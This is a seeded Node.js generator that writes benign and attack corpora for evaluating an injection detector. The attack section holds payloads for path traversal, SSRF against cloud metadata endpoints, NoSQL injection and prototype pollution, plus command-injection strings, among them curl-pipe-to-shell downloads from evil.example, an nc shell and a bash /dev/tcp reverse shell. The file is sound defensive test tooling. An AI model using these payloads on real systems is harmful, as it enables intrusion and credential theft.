// Builds the labelled corpora used by `npm run eval:detect` and the eval test:
//   benign.jsonl  — values a real API receives (names, addresses, prose with SQL words, code, URLs, JSON...)
//   attacks.jsonl — attacks for the categories the shared libinjection corpus does not cover
// Deterministic (seeded), so the files are reproducible: `node test/corpora/generate.mjs` rewrites them.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
let seed = 20240611;
function rnd() { // mulberry32
  seed = (seed + 0x6d2b79f5) | 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (a) => a[Math.floor(rnd() * a.length)];
const int = (lo, hi) => lo + Math.floor(rnd() * (hi - lo + 1));

const FIRST = ['Aoife', 'Liam', 'Siobhán', 'José', 'Zoë', 'Mary-Jane', 'Jean-Luc', 'Chloé', 'Dmitri', 'Ngozi', 'Priya', 'Hiroshi', 'Fatima', 'Øyvind', 'Ana', 'Kevin', 'Bob', 'Or', 'Ann', 'Select', 'Union', 'Dee', 'Noor', 'Łukasz', 'Renée', 'Björn', 'Mei', 'Jesús', 'Andrés', 'Drew'];
const LAST = ["O'Brien", "O'Neil", "D'Angelo", "O'Connor", 'McDonald', 'Smith-Jones', 'van der Berg', 'de la Cruz', "N'Diaye", 'Nguyen', 'Müller', 'García', 'Oyelaran-Oyeyinka', 'Drop', 'Select', 'Or', 'Anderson', 'Wong', 'Kowalski', "Dell'Acqua", "L'Estrange", 'St. John', 'Fitzgerald', 'Brown', 'Sanchez'];
const STREETS = ["O'Connell Street", 'High St.', 'Rue de la Paix', 'Main Street', 'Union Square', 'Select Road', 'Drop Lane', 'Table Mountain Rd', 'King\'s Road', 'Old Kent Road', 'Elm St', 'Baker Street', 'Avenue of the Americas', 'Calle Mayor'];
const CITIES = ['Dublin', 'Cork', 'New York, NY 10001', 'Paris', 'São Paulo', 'München', "Coeur d'Alene, ID", 'Sydney NSW 2000', 'Toronto, ON M5V 2T6', 'Tokyo'];
const NOUNS = ['order', 'table', 'chair', 'union', 'group', 'user', 'file', 'line', 'option', 'account', 'database', 'schedule', 'sleep', 'version', 'script', 'password', 'server', 'update', 'key', 'lock', 'case', 'note', 'set', 'drop', 'select', 'index'];
const VERBS = ['select', 'drop', 'update', 'delete', 'insert', 'order', 'group', 'join', 'create', 'alter', 'grant', 'execute', 'load', 'call', 'set', 'cat', 'find', 'sort', 'ping', 'echo', 'kill', 'sleep', 'exec', 'replace', 'union'];
const ADJ = ['best', 'new', 'old', 'red', 'final', 'null', 'true', 'false', 'empty', 'all', 'top', 'left', 'right', 'inner', 'outer', 'natural', 'distinct'];
const DOMAINS = ['example.com', 'shop.example.org', 'en.wikipedia.org', 'github.com', 'api.stripe.com', 'docs.python.org', 'news.ycombinator.com', 'www.bbc.co.uk', 'cdn.jsdelivr.net', 'maps.google.com'];

const benign = [];
const add = (kind, value, extra = {}) => benign.push({ id: `benign-${kind}-${benign.length + 1}`, kind, value, expect_attack: false, ...extra });

// Hand-written tricky values: each one has fooled some detector.
const TRICKY = [
  "O'Brien", "Miles O'Brien-Smith", "Y'all come back now", "1 BY 1 INCH", '1 BY 1 INCH PILLOWS', 'select the best option',
  'drop me a line', 'rock & roll', 'rock and roll', "rock 'n' roll", 'C:\\Program Files', 'C:\\Program Files (x86)\\App\\app.exe',
  'and/or', 'Tom & Jerry', 'fish & chips; more to come', 'R&D', 'AT&T', 'Q&A', 'Barnes & Noble', "Don't -- I repeat -- don't", "It's 5 o'clock somewhere",
  'Union Station', 'Select Comfort', 'The union voted 9 to 5', 'Please update my address or delete the old one',
  'Where is my order? It has been 5 days', 'order by phone or email', 'from 9 to 5, Monday to Friday', 'insert tab A into slot B',
  'exec summary attached', 'grant me access please', 'join us at 7pm; bring snacks', "O'Brien's pub & grill", 'Call me at 555-0100 (ext. 23)',
  'ping me when you are done', 'cat & dog grooming', 'more info | less noise', 'Tom | Jerry', 'price: $19.99 (was $25)', '50% off — today only!',
  '3/4 cup sugar, 1/2 tsp salt', '10-15 business days', '#1 best seller', 'Room #204', 'Apt. 5B, 2nd floor', 'True or false?', 'yes/no',
  '2 or 3 times a week', 'Is it 1 or 2?', 'I like SQL: it is my favourite language', 'Learn SQL in 10 minutes', 'my password is not 1234',
  'Drop-off at 5pm; pick-up at 6pm', 'Sleep well!', 'version 2.3.1 (build 4567)', 'v1.0.0-beta+exp.sha.5114f85', 'semver ^1.2.3 || ~2.0',
  "He said \"hello\" and left", 'The "best" option', 'She wrote: \'not today\'', '5\' 11" tall', '2" x 4" lumber', '12" = 1 foot',
  'MATS 5" BY 7"', 'Between 1 and 10', 'Count: 1, 2, 3', 'x = 5', 'a + b = c', 'e = mc^2', 'f(x) = x^2', '1 + 1 = 2', '5 - 3 = 2',
  'Use `npm install` to set up', 'Run `ls -la` to list files', 'Type `git status`', 'Set `NODE_ENV=production`', 'email me: a.b@example.com',
  'Love it <3', ':) :( ;-)', '<b>bold</b> and <i>italic</i>', '<p>Hello, <strong>world</strong></p>', '<a href="https://example.com/a?b=1&c=2">link</a>',
  '<ul><li>one</li><li>two</li></ul>', '<img src="https://example.com/cat.png" alt="a cat">', 'a < b and c > d', 'if a<b then swap',
  '{"name": "O\'Brien", "age": 42}', '[1, 2, 3]', '{"query": "select the best option"}', '{"$ref": "#/components/schemas/User"}',
  '../README.md', 'docs/guide/intro.md', '~/projects/app', '/home/user/notes.txt', '/api/v1/users/42', 'https://example.com/api?x=1&y=2',
  'Meet me at the union; select a table near the window', 'Order #12345 — group delivery', 'Table 4, chairs 16', 'Case closed.',
  'The end.', 'All natural skin care', 'Lock and key', 'Where is George', 'Not all who wander are lost', 'Key to my heart',
  'Set with envelopes', 'As for me and my house', 'BEGIN each day with love', 'Christmas stocking "not" stuffer', '7 for all mankind',
  'Life is not about waiting for the storm to pass', 'Go to sleep (5 minutes)', 'The benchmark (2023) shows a 5% gain', 'Wake up; sleep 8 hours',
  'Drop table reservations by phone', 'Lunch: 12:30–13:30', 'Ratio 16:9', 'Chapter 3: Where the sidewalk ends', 'Score: 3-1 (a.e.t.)',
  'SELECT models: 2019 and newer', 'delete key stuck', 'Press Ctrl+Alt+Del', 'Windows\\System folder', 'Math.max(a, b)', 'console.log("hi")',
  'print("Hello, world!")', 'x => x * 2', 'for (let i = 0; i < n; i++) { sum += a[i]; }', 'def f(x):\n    return x * 2', 'a { color: red; }',
  'npm run build && npm test', 'git commit -m "fix: typo"', 'docker run -p 8080:80 nginx', '$(document).ready(function () {})',
  'const user = await db.users.find({ id });', 'SELECT * in your mind', 'Use the & operator for bitwise and', 'Pipes | are separators',
  'Nice!!! 10/10 would buy again', 'Mr. & Mrs. Smith', 'Jack-o\'-lantern?', 'The 1950\'s dresses', "Rock'n'roll hall of fame",
  'Whoa -- really?', '-- no comment --', 'p.s. thanks', 'N/A', 'TBD', '#hashtag #another', '@mention hello', '100%', '(none)',
  '[citation needed]', 'Ünïcödé têxt ✓', '日本語のテキスト', 'مرحبا بالعالم', 'Привет, мир', '😀 emoji 🎉', 'tab\tseparated\tvalues',
  'line one\nline two\nline three', 'Step 1: open the file\nStep 2: find the line\nStep 3: save', 'O\'Reilly Media; Sebastopol, CA',
  'Size: 10 (US) / 42 (EU)', 'Color: "navy" or "black"', 'Sale -- 20% off -- ends Friday', 'Model X-100 (2nd gen)', 'ID: A1-B2-C3',
];
for (const t of TRICKY) add('tricky', t);

for (let i = 0; i < 600; i++) {
  const f = pick(FIRST), l = pick(LAST);
  const shape = i % 4;
  add('name', shape === 0 ? `${f} ${l}` : shape === 1 ? `${l}, ${f}` : shape === 2 ? `Dr. ${f} ${l} Jr.` : `${f} "${pick(ADJ)}" ${l}`);
}
for (let i = 0; i < 400; i++) {
  const shape = i % 4;
  add('address', shape === 0 ? `${int(1, 9999)} ${pick(STREETS)}, ${pick(CITIES)}`
    : shape === 1 ? `Apt ${int(1, 40)}${pick(['A', 'B', 'C'])}, ${int(1, 300)} ${pick(STREETS)}`
      : shape === 2 ? `PO Box ${int(100, 99999)}, ${pick(CITIES)}` : `Flat ${int(1, 9)}/${int(10, 99)} ${pick(STREETS)} #${int(1, 50)}`);
}
for (let i = 0; i < 300; i++) {
  const f = pick(FIRST).toLowerCase().normalize('NFD').replace(/[^a-z-]/g, '');
  const l = pick(LAST).toLowerCase().replace(/[^a-z'-]/g, '');
  const shape = i % 3;
  add('contact', shape === 0 ? `${f}.${l}@${pick(DOMAINS)}` : shape === 1 ? `+${int(1, 99)} (${int(100, 999)}) ${int(100, 999)}-${int(1000, 9999)}`
    : `${int(100, 999)}-${int(100, 999)}-${int(1000, 9999)} ext. ${int(1, 999)}`);
}
for (let i = 0; i < 300; i++) {
  const shape = i % 6;
  add('number', shape === 0 ? `$${int(1, 999)}.${int(10, 99)}` : shape === 1 ? `${int(1, 12)}/${int(1, 28)}/${int(1990, 2030)}`
    : shape === 2 ? `${int(1, 99)} BY ${int(1, 99)} INCH` : shape === 3 ? `${int(2000, 2030)}-0${int(1, 9)}-${int(10, 28)}T${int(10, 23)}:00:00Z`
      : shape === 4 ? `${int(1, 100)}% ${pick(['cotton', 'wool', 'off', 'done'])} and ${int(1, 100)}% ${pick(['polyester', 'silk', 'left'])}`
        : `${int(1, 10)} or ${int(11, 20)} ${pick(['items', 'days', 'people', 'boxes'])}`);
}
for (let i = 0; i < 300; i++) {
  const d = pick(DOMAINS);
  const shape = i % 4;
  add('url', shape === 0 ? `https://${d}/search?q=${pick(NOUNS)}+${pick(ADJ)}&page=${int(1, 20)}`
    : shape === 1 ? `https://${d}/${pick(NOUNS)}/${int(1, 9999)}?ref=${pick(NOUNS)}&sort=${pick(['asc', 'desc'])}#section-${int(1, 9)}`
      : shape === 2 ? `http://${d}/wiki/${pick(LAST).replace(/ /g, '_')}` : `https://${d}/a/b/c.html?utm_source=${pick(NOUNS)}&utm_medium=email`,
  { context: 'url' });
}
const SENTENCES = [
  () => `Please ${pick(VERBS)} the ${pick(ADJ)} ${pick(NOUNS)} and ${pick(VERBS)} me a ${pick(NOUNS)}.`,
  () => `I'd like to ${pick(VERBS)} my ${pick(NOUNS)} or ${pick(VERBS)} the ${pick(NOUNS)}, if that's OK.`,
  () => `Where is the ${pick(NOUNS)}? It's been ${int(2, 30)} days and I can't ${pick(VERBS)} it.`,
  () => `Can't ${pick(VERBS)} from the ${pick(NOUNS)} — ${pick(VERBS)} it by ${int(1, 12)} pm; thanks!`,
  () => `${pick(FIRST)} said: "${pick(VERBS)} the ${pick(NOUNS)}, not the ${pick(NOUNS)}".`,
  () => `The ${pick(NOUNS)} is ${pick(ADJ)}; ${pick(VERBS)} ${pick(['it', 'them', 'all'])} before ${int(1, 12)}:${int(10, 59)}.`,
  () => `${pick(VERBS)} ${pick(['all', 'any', 'the'])} ${pick(NOUNS)} where ${pick(['the', 'my', 'your'])} ${pick(NOUNS)} is ${pick(ADJ)}`,
  () => `Step ${int(1, 9)}: ${pick(VERBS)} the ${pick(NOUNS)} (see page ${int(1, 300)}) & ${pick(VERBS)} again.`,
  () => `${pick(FIRST)} & ${pick(FIRST)} ${pick(VERBS)} ${int(1, 9)} ${pick(NOUNS)}s | ${pick(ADJ)} ${pick(NOUNS)}`,
  () => `Re: ${pick(NOUNS)} #${int(1, 999)} - ${pick(VERBS)} or ${pick(VERBS)}?`,
  () => `Is ${int(1, 99)} ${pick(['more', 'less'])} than ${int(1, 99)}? ${pick(['Yes', 'No', 'Maybe'])}.`,
  () => `We ${pick(VERBS)} ${int(2, 50)} ${pick(NOUNS)}s from ${pick(CITIES)} to ${pick(CITIES)}.`,
];
for (let i = 0; i < 1000; i++) add('prose', pick(SENTENCES)());
const CODE = [
  () => `\`${pick(['npm', 'git', 'make', 'cargo'])} ${pick(['install', 'build', 'test', 'status'])}\``,
  () => `const ${pick(NOUNS)} = ${pick(NOUNS)}s.filter((x) => x.${pick(NOUNS)} > ${int(1, 9)});`,
  () => `if (${pick(NOUNS)} && !${pick(NOUNS)}) { return ${pick(NOUNS)} || null; }`,
  () => `\`\`\`js\nconst total = items.reduce((a, b) => a + b.price, 0);\n\`\`\``,
  () => `## ${pick(NOUNS)}\n\nUse **${pick(VERBS)}** to ${pick(VERBS)} a [${pick(NOUNS)}](https://${pick(DOMAINS)}/docs?x=${int(1, 9)}).`,
  () => `for ${pick(['i', 'x', 'row'])} in range(${int(1, 100)}):\n    print(${pick(['i', 'x', 'row'])})`,
  () => `.${pick(NOUNS)} { margin: ${int(0, 20)}px; color: #${int(100000, 999999)}; }`,
  () => `<div class="${pick(NOUNS)}">${pick(ADJ)} ${pick(NOUNS)}</div>`,
  () => `{"${pick(NOUNS)}": "${pick(ADJ)}", "count": ${int(0, 99)}, "tags": ["${pick(NOUNS)}", "${pick(VERBS)}"]}`,
  () => `${pick(NOUNS)}_${pick(NOUNS)}_${int(1, 99)}`,
  () => `git checkout -b feature/${pick(NOUNS)}-${int(1, 999)}`,
  () => `src/${pick(NOUNS)}/${pick(NOUNS)}.ts:${int(1, 300)}:${int(1, 80)}`,
];
for (let i = 0; i < 400; i++) add('code', pick(CODE)());
writeFileSync(join(here, 'benign.jsonl'), benign.map((b) => JSON.stringify(b)).join('\n') + '\n');

// ---------------------------------------------------------------------------------------------------------
const attacks = [];
const atk = (family, value, extra = {}) => attacks.push({ id: `atk-${family}-${attacks.length + 1}`, family, value, expect_attack: true, ...extra });
const enc = (s) => s.replace(/[^A-Za-z0-9]/g, (c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0'));
const encodings = [(s) => s, enc, (s) => enc(enc(s)), (s) => s.replace(/\//g, '%2f').replace(/\./g, '%2e')];

// path traversal
const TARGETS = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'boot.ini', 'proc/self/environ', 'var/www/.env', 'WEB-INF/web.xml', 'root/.ssh/id_rsa', 'app/config/.git/config', 'inetpub/wwwroot/web.config'];
for (let i = 0; i < 80; i++) {
  const depth = int(2, 8);
  const sep = pick(['../', '..\\', '....//', '..;/', '%2e%2e/', '..%2f', '%2e%2e%2f', '..%c0%af', '%252e%252e%252f', '..%5c']);
  const raw = sep.repeat(depth) + pick(TARGETS) + (i % 7 === 0 ? '%00.png' : '');
  atk('path-traversal', raw, { context: i % 2 ? 'path' : 'generic' });
}
for (const t of ['/etc/passwd', '/etc/shadow', 'C:\\Windows\\win.ini', 'c:/boot.ini', '/proc/self/environ', '~/.ssh/id_rsa', '/var/www/html/.env', 'file:///etc/passwd', '\\\\server\\share\\..\\..\\windows\\win.ini', '/root/.aws/credentials']) {
  atk('path-traversal', t, { context: 'path' });
  atk('path-traversal', t);
}

// ssrf
const HOSTS = ['127.0.0.1', 'localhost', '169.254.169.254', '[::1]', '0.0.0.0', '10.0.0.5', '192.168.1.1', '172.16.0.10', '2130706433', '0x7f000001',
  '0177.0.0.1', '127.1', '[::ffff:127.0.0.1]', 'metadata.google.internal', '100.100.100.200', '[fd00:ec2::254]', '127.0.0.1.nip.io', 'localtest.me', '0', '[fe80::1]',
  'evil.com@127.0.0.1', 'LOCALHOST', '169.254.170.2', 'kubernetes.default.svc'];
const PATHS = ['/', '/latest/meta-data/iam/security-credentials/', '/computeMetadata/v1/?recursive=true', '/admin', ':6379/', ':2375/containers/json', '/v1/secrets'];
for (let i = 0; i < 120; i++) {
  const h = HOSTS[i % HOSTS.length];
  const scheme = pick(['http', 'https', 'HTTP', 'http']);
  const v = `${scheme}://${h}${pick(PATHS)}`;
  atk('ssrf', i % 5 === 0 ? v.replace(/^https?:/i, '') : v, { context: i % 4 === 0 ? 'generic' : 'url' });
}
for (const v of ['file:///etc/passwd', 'gopher://127.0.0.1:6379/_INFO', 'dict://localhost:11211/stats', 'ldap://127.0.0.1/', 'file://C:/Windows/win.ini', 'tftp://10.0.0.1/x', 'jar:http://127.0.0.1!/', 'netdoc:///etc/passwd', 'php://filter/resource=index.php', 'FILE:///proc/self/environ']) {
  atk('ssrf', v, { context: 'url' });
  atk('ssrf', v);
}

// cmdi
const CMDS = ['cat /etc/passwd', 'id', 'whoami', 'uname -a', 'ls -la /', 'sleep 5', 'ping -c 10 127.0.0.1', 'curl http://evil.example/x.sh | sh', 'wget http://evil.example/s -O /tmp/s',
  'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'type C:\\Windows\\win.ini', 'net user', 'dir c:\\', 'powershell -enc SQBFAFgA', 'rm -rf /tmp/x',
  'python -c "import os"', 'echo $PATH', '/bin/cat /etc/hosts', 'c\'a\'t /etc/passwd', 'w\\hoami', 'cat${IFS}/etc/passwd', 'sleep${IFS}10', 'nslookup evil.example', 'ifconfig', 'ipconfig /all'];
const SEPS = [';', '|', '||', '&&', '&', '\n', '%0a', '`', '$(', ';;', ' ; ', ' | '];
for (let i = 0; i < 150; i++) {
  const c = CMDS[i % CMDS.length];
  const s = SEPS[(i * 7) % SEPS.length];
  const prefix = pick(['', '127.0.0.1', 'file.txt', 'x', "'", '"', 'abc123', 'foo.png']);
  const v = s === '`' ? `${prefix}\`${c}\`` : s === '$(' ? `${prefix}$(${c})` : `${prefix}${s}${c}`;
  atk('cmdi', v);
}

// nosqli (string forms and JSON bodies)
const OPS = ['$ne', '$gt', '$gte', '$lt', '$regex', '$where', '$exists', '$in', '$nin', '$or', '$expr', '$function'];
for (let i = 0; i < 60; i++) {
  const op = OPS[i % OPS.length];
  const shape = i % 4;
  if (shape === 0) atk('nosqli', `{"${op}": ${pick(['null', '""', '1', '"a"', '[]'])}}`);
  else if (shape === 1) atk('nosqli', '', { body: { username: pick(['admin', 'root', 'alice']), password: { [op]: pick([null, '', 1, '.*']) } } });
  else if (shape === 2) atk('nosqli', '', { query: `user=admin&password[${op}]=${pick(['x', '1', '', '.*'])}` });
  else atk('nosqli', '', { body: { filter: { [pick(['$where', '$or', '$and'])]: pick(['this.password.length > 0', [{ a: 1 }], 'sleep(5000)']) } } });
}
for (const v of ["' || '1'=='1", "'; return true; var x='", '" || 1==1//', "admin' && this.password.match(/.*/)//", "1'; sleep(5000); var a='",
  "'; return this.role == 'admin'; //", '{"$where": "sleep(100)"}', 'user[$regex]=.*', "[$ne]=1", '{"username": {"$gt": ""}}']) atk('nosqli', v);

// prototype pollution
for (let i = 0; i < 40; i++) {
  const shape = i % 4;
  const prop = pick(['isAdmin', 'polluted', 'role', 'shell', 'toString', 'NODE_OPTIONS']);
  if (shape === 0) atk('prototype-pollution', '', { body: JSON.parse(`{"a": 1, "__proto__": {"${prop}": true}}`) });
  else if (shape === 1) atk('prototype-pollution', '', { body: { user: { constructor: { prototype: { [prop]: true } } } } });
  else if (shape === 2) atk('prototype-pollution', '', { query: pick([`__proto__[${prop}]=1`, `a[__proto__][${prop}]=1`, `constructor[prototype][${prop}]=1`, `__proto__.${prop}=1`]) });
  else atk('prototype-pollution', pick([`__proto__.${prop}`, `a.__proto__.${prop}`, `constructor.prototype.${prop}`, `["__proto__"]["${prop}"]`, `constructor[prototype][${prop}]`]));
}
// encoded variants for some of the above
for (const a of attacks.slice()) {
  if (a.value && rnd() < 0.25 && a.family !== 'ssrf') atk(a.family, pick(encodings.slice(1, 3))(a.value), a.context ? { context: a.context } : {});
}
writeFileSync(join(here, 'attacks.jsonl'), attacks.map((b) => JSON.stringify(b)).join('\n') + '\n');
